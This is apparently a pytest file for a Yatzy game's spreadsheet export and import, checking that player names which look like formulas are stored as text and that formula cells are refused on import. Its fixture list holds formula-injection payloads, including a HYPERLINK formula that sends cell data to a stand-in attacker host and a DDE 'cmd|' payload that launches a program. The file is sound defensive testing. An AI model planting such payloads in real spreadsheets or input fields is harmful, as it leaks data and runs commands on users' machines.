"""Formula injection: text a person chose is written as text, and import never takes
a formula cell for a name or a score."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from yatzy.game import Game, Roll, Score
from yatzy.protocols import Protocol
from yatzy.protocols.importer import ProtocolImportError, read_protocol
from yatzy.protocols.xlsx import FIRST_COLUMN, HEADER_ROW, SHEET, write_xlsx
from yatzy.rules import RuleSet

EVIL = [
    '=HYPERLINK("http://ev.il/?"&B5,"x")',
    "=cmd|'/C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1)",
]


def _played(names: list[str]) -> Protocol:
    state = Game("yatzy", names).new_initial_state(starter=0)
    for _ in names:
        state.apply(Roll(()))  # a roll before scoring keeps the game ordinary
        state.roll()
        state.apply(Score("chance"))
    return Protocol.from_state(state, "en")


def test_names_that_look_like_formulas_are_written_as_strings(tmp_path: Path) -> None:
    path = tmp_path / "evil.xlsx"
    write_xlsx(_played(EVIL), path)
    ws = load_workbook(path)[SHEET]
    for i, name in enumerate(EVIL):
        cell = ws.cell(HEADER_ROW, FIRST_COLUMN + i)
        assert cell.value == name
        assert cell.data_type == "s", (name, cell.data_type)
    # No formula in the file holds a name (the sheet's own formulas are sums and bonuses).
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(z.read(n) for n in sheets).decode()
    assert not any("HYPERLINK" in f or "cmd|" in f for f in _formulas(xml))
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                assert not any(name.lstrip("=+@") in str(cell.value) for name in EVIL)


def _formulas(xml: str) -> list[str]:
    return [part.split("</f>", 1)[0] for part in xml.split("<f>")[1:]]


def test_a_blank_protocol_writes_names_as_strings_too(tmp_path: Path) -> None:
    path = tmp_path / "blank.xlsx"
    write_xlsx(Protocol.blank(RuleSet.parse("maxi"), ["=1+1", "Bo"], 3, "sv"), path)
    cell = load_workbook(path)[SHEET].cell(HEADER_ROW, FIRST_COLUMN)
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def _blank(tmp_path: Path) -> Path:
    path = tmp_path / "typed.xlsx"
    write_xlsx(Protocol.blank(RuleSet.parse("yatzy"), ["Anna", "Bo"], 2, "en"), path)
    return path


def _rows(path: Path) -> dict[str, int]:
    meta = load_workbook(path)["yatzy"]
    return {
        str(k)[4:]: int(v)  # type: ignore[arg-type]
        for k, v in meta.iter_rows(values_only=True)
        if isinstance(k, str) and k.startswith("row:")
    }


def test_import_refuses_a_formula_as_a_name_and_says_where(tmp_path: Path) -> None:
    path = _blank(tmp_path)
    wb = load_workbook(path)
    wb[SHEET].cell(HEADER_ROW, FIRST_COLUMN).value = '=HYPERLINK("http://evil","Anna")'
    assert wb[SHEET].cell(HEADER_ROW, FIRST_COLUMN).data_type == "f"
    wb.save(path)
    with pytest.raises(ProtocolImportError) as info:
        read_protocol(path)
    assert any(p.startswith("B4: the name is a formula") for p in info.value.problems)


def test_import_refuses_a_formula_as_a_score(tmp_path: Path) -> None:
    path = _blank(tmp_path)
    row = _rows(path)["chance"]
    wb = load_workbook(path)
    wb[SHEET].cell(row, FIRST_COLUMN).value = "=5*5"
    wb.save(path)
    with pytest.raises(ProtocolImportError, match=r"a formula .*is not a score"):
        read_protocol(path)


def test_import_takes_a_name_written_as_text_that_starts_with_an_equals_sign(
    tmp_path: Path,
) -> None:
    path = tmp_path / "eq.xlsx"
    write_xlsx(_played(["=1+1", "Bo"]), path)
    state = read_protocol(path)
    assert [p.name for p in state.players] == ["=1+1", "Bo"]


def test_import_refuses_a_name_with_a_control_character(tmp_path: Path) -> None:
    path = _blank(tmp_path)
    wb = load_workbook(path)
    wb[SHEET].cell(HEADER_ROW, FIRST_COLUMN + 1).value = "Bo\u202e"
    wb.save(path)
    with pytest.raises(ProtocolImportError, match=r"C4: player name .*U\+202E"):
        read_protocol(path)
